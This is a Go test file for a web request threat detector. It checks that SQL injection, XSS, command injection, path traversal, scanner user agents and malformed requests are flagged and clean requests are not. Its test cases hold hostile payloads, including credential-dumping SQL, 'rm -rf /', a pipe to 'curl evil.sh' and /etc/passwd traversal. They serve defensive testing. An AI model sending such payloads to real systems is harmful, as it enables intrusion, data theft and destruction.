package threat_test

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dmitrymomot/sentinel/core/eventlog"
	"github.com/dmitrymomot/sentinel/core/request"
	"github.com/dmitrymomot/sentinel/core/threat"
)

const browserUA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) Safari/605.1.15"

func snapshot(t *testing.T, r *http.Request) *request.Request {
	t.Helper()
	if r.Header.Get("User-Agent") == "" {
		r.Header.Set("User-Agent", browserUA)
	}
	req, err := request.FromHTTP(r)
	require.NoError(t, err)
	return req
}

func TestDetector_CleanRequest(t *testing.T) {
	t.Parallel()

	d := threat.New(threat.DefaultRules())
	rep := d.Scan(snapshot(t, httptest.NewRequest(http.MethodGet, "/products?category=books&sort=price", nil)))

	assert.Empty(t, rep.Events)
	assert.False(t, rep.Threat())
	assert.Zero(t, rep.Status)
}

func TestDetector_SQLInjectionJSON(t *testing.T) {
	t.Parallel()

	d := threat.New(threat.DefaultRules())
	r := httptest.NewRequest(http.MethodPost, "/search", strings.NewReader(`{"q": "' UNION ALL SELECT username,password FROM users"}`))
	r.Header.Set("Content-Type", "application/json")

	rep := d.Scan(snapshot(t, r))

	require.True(t, rep.Threat())
	assert.Equal(t, []eventlog.Type{eventlog.TypeSQLInjection}, rep.Flagged)
	require.Len(t, rep.Events, 1)
	ev := rep.Events[0]
	assert.Equal(t, eventlog.TypeSQLInjection, ev.Type)
	assert.Equal(t, eventlog.SeverityHigh, ev.Severity)
	assert.Equal(t, map[string]string{"json:q": "' UNION ALL SELECT username,password FROM users"}, ev.Context["inputs"])
}

func TestDetector_Families(t *testing.T) {
	t.Parallel()

	d := threat.New(threat.DefaultRules())

	tests := []struct {
		name  string
		value string
		want  eventlog.Type
	}{
		{"drop table", "1; DROP TABLE users", eventlog.TypeSQLInjection},
		{"sleep", "1 AND SLEEP(5)", eventlog.TypeSQLInjection},
		{"information schema", "x FROM information_schema.tables", eventlog.TypeSQLInjection},
		{"script tag", "<script>alert(1)</script>", eventlog.TypeXSS},
		{"event handler", `<img src=x onerror="alert(1)">`, eventlog.TypeXSS},
		{"javascript uri", "javascript:alert(1)", eventlog.TypeXSS},
		{"rm", "file; rm -rf /", eventlog.TypeCommandInjection},
		{"pipe", "name | curl evil.sh", eventlog.TypeCommandInjection},
		{"backtick", "`wget http://x`", eventlog.TypeCommandInjection},
		{"traversal", "../../../etc/passwd", eventlog.TypeLFI},
		{"windows", `..\windows\win.ini`, eventlog.TypeLFI},
		{"fullwidth", "＜script＞alert(1)＜/script＞", eventlog.TypeXSS},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader("field="+urlEncode(tt.value)))
			r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			rep := d.Scan(snapshot(t, r))
			assert.True(t, rep.Has(tt.want), "events: %v", rep.Events)
		})
	}
}

func TestDetector_InputFiltering(t *testing.T) {
	t.Parallel()

	d := threat.New(threat.DefaultRules())

	t.Run("excluded keys", func(t *testing.T) {
		t.Parallel()
		r := httptest.NewRequest(http.MethodGet, "/?csrf_token="+urlEncode("' UNION ALL SELECT a FROM b"), nil)
		assert.False(t, d.Scan(snapshot(t, r)).Threat())
	})

	t.Run("short values", func(t *testing.T) {
		t.Parallel()
		r := httptest.NewRequest(http.MethodGet, "/?q=/etc/pa", nil)
		assert.False(t, d.Scan(snapshot(t, r)).Threat())
	})

	t.Run("cookies are inputs", func(t *testing.T) {
		t.Parallel()
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set("Cookie", "pref=../../etc/passwd")
		assert.True(t, d.Scan(snapshot(t, r)).Has(eventlog.TypeLFI))
	})

	t.Run("one event per family", func(t *testing.T) {
		t.Parallel()
		r := httptest.NewRequest(http.MethodGet, "/?a="+urlEncode("x; DROP TABLE t")+"&b="+urlEncode("SELECT SLEEP(10)"), nil)
		rep := d.Scan(snapshot(t, r))
		require.Len(t, rep.Events, 1)
		assert.Len(t, rep.Events[0].Context["inputs"], 2)
	})
}

func TestDetector_Headers(t *testing.T) {
	t.Parallel()

	t.Run("scanner user agent", func(t *testing.T) {
		t.Parallel()
		d := threat.New(threat.DefaultRules())
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")
		rep := d.Scan(snapshot(t, r))
		assert.True(t, rep.Has(eventlog.TypeSuspiciousHeaders))
		assert.True(t, rep.Threat())
	})

	t.Run("short user agent", func(t *testing.T) {
		t.Parallel()
		d := threat.New(threat.DefaultRules())
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set("User-Agent", "x")
		assert.True(t, d.Scan(snapshot(t, r)).Has(eventlog.TypeSuspiciousHeaders))
	})

	t.Run("proxy headers", func(t *testing.T) {
		t.Parallel()
		r := httptest.NewRequest(http.MethodGet, "/", nil)
		r.Header.Set("X-Forwarded-For", "10.0.0.1")

		assert.True(t, threat.New(threat.DefaultRules()).Scan(snapshot(t, r)).Has(eventlog.TypeSuspiciousHeaders))

		rules := threat.DefaultRules()
		rules.ExpectProxyHeaders = true
		assert.False(t, threat.New(rules).Scan(snapshot(t, r)).Threat())
	})

	t.Run("content type", func(t *testing.T) {
		t.Parallel()
		d := threat.New(threat.DefaultRules())

		r := httptest.NewRequest(http.MethodPost, "/", strings.NewReader("x"))
		r.Header.Set("Content-Type", "application/x-evil")
		assert.True(t, d.Scan(snapshot(t, r)).Has(eventlog.TypeSuspiciousHeaders))

		r = httptest.NewRequest(http.MethodPost, "/", strings.NewReader("{}"))
		r.Header.Set("Content-Type", "application/json; charset=utf-8")
		assert.False(t, d.Scan(snapshot(t, r)).Threat())
	})
}

func TestDetector_Shape(t *testing.T) {
	t.Parallel()

	d := threat.New(threat.DefaultRules())

	t.Run("method not allowed", func(t *testing.T) {
		t.Parallel()
		rep := d.Scan(snapshot(t, httptest.NewRequest("TRACE", "/", nil)))
		assert.Equal(t, http.StatusMethodNotAllowed, rep.Status)
		assert.Equal(t, "GET, POST, HEAD, PUT, PATCH, DELETE, OPTIONS", rep.Allow)
		assert.True(t, rep.Has(eventlog.TypeAbnormalRequestMethod))
		assert.False(t, rep.Threat())
	})

	t.Run("uri too long", func(t *testing.T) {
		t.Parallel()
		rep := d.Scan(snapshot(t, httptest.NewRequest(http.MethodGet, "/?q="+strings.Repeat("a", 3000), nil)))
		assert.Equal(t, http.StatusRequestURITooLong, rep.Status)
		assert.True(t, rep.Has(eventlog.TypeURITooLong))
	})

	t.Run("too many params is logged only", func(t *testing.T) {
		t.Parallel()
		var q []string
		for i := range 31 {
			q = append(q, "p"+strings.Repeat("x", i)+"=1")
		}
		rep := d.Scan(snapshot(t, httptest.NewRequest(http.MethodGet, "/?"+strings.Join(q, "&"), nil)))
		assert.Zero(t, rep.Status)
		assert.True(t, rep.Has(eventlog.TypeTooManyGetParams))
		assert.False(t, rep.Threat())
		assert.Equal(t, eventlog.SeverityLow, rep.Events[0].Severity)
	})

	t.Run("request line only", func(t *testing.T) {
		t.Parallel()
		body := strings.NewReader(`{"q": "' UNION ALL SELECT password FROM users"}`)
		r := httptest.NewRequest(http.MethodPost, "/search", body)
		r.Header.Set("Content-Type", "application/json")
		req := snapshot(t, r)

		assert.Zero(t, d.Shape(req))
		assert.True(t, d.Scan(req).Threat())

		rep := d.Shape(snapshot(t, httptest.NewRequest("PROPFIND", "/", nil)))
		assert.Equal(t, http.StatusMethodNotAllowed, rep.Status)
		assert.NotEmpty(t, rep.Allow)
	})
}

func urlEncode(s string) string {
	r := strings.NewReplacer("%", "%25", "&", "%26", "+", "%2B", " ", "+", "=", "%3D", "#", "%23", "?", "%3F", ";", "%3B")
	return r.Replace(s)
}

func TestDetector_MalformedBodyStillScanned(t *testing.T) {
	t.Parallel()

	d := threat.New(threat.DefaultRules())
	production := threat.Policy{Production: true}
	payload := "' UNION ALL SELECT username,password FROM users"

	t.Run("bad escape next to payload", func(t *testing.T) {
		t.Parallel()

		r := httptest.NewRequest(http.MethodPost, "/search", strings.NewReader("q="+urlEncode(payload)+"&x=%zz"))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		rep := d.Scan(snapshot(t, r))

		assert.Contains(t, rep.Flagged, eventlog.TypeSQLInjection)
		assert.True(t, production.ShouldBlock(rep, "203.0.113.5"))
	})

	t.Run("payload before the inspected limit", func(t *testing.T) {
		t.Parallel()

		r := httptest.NewRequest(http.MethodPost, "/search",
			strings.NewReader("q="+urlEncode(payload)+"&pad="+strings.Repeat("a", 256)))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("User-Agent", browserUA)
		req, err := request.FromHTTP(r, request.WithMaxBody(128))
		require.NoError(t, err)

		rep := d.Scan(req)
		assert.Contains(t, rep.Flagged, eventlog.TypeSQLInjection)
		assert.Contains(t, rep.Flagged, eventlog.TypeBodyTooLarge)
	})

	t.Run("payload past the inspected limit", func(t *testing.T) {
		t.Parallel()

		r := httptest.NewRequest(http.MethodPost, "/search",
			strings.NewReader("pad="+strings.Repeat("a", 256)+"&q="+urlEncode(payload)))
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		r.Header.Set("User-Agent", browserUA)
		req, err := request.FromHTTP(r, request.WithMaxBody(128))
		require.NoError(t, err)

		rep := d.Scan(req)
		assert.Equal(t, []eventlog.Type{eventlog.TypeBodyTooLarge}, rep.Flagged)
		assert.True(t, production.ShouldBlock(rep, "203.0.113.5"))
		assert.False(t, threat.Policy{}.ShouldBlock(rep, "203.0.113.5"))
	})
}
